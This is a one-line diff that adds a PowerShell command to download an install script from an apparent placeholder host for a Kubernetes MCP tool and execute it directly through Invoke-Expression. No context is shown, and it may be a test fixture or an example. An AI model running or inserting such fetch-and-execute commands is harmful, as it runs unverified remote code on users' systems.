@@ -1,0 +1,1 @@
+iwr https://k8s-mcp.platform-tools.invalid/install.ps1 -UseBasicParsing | iex
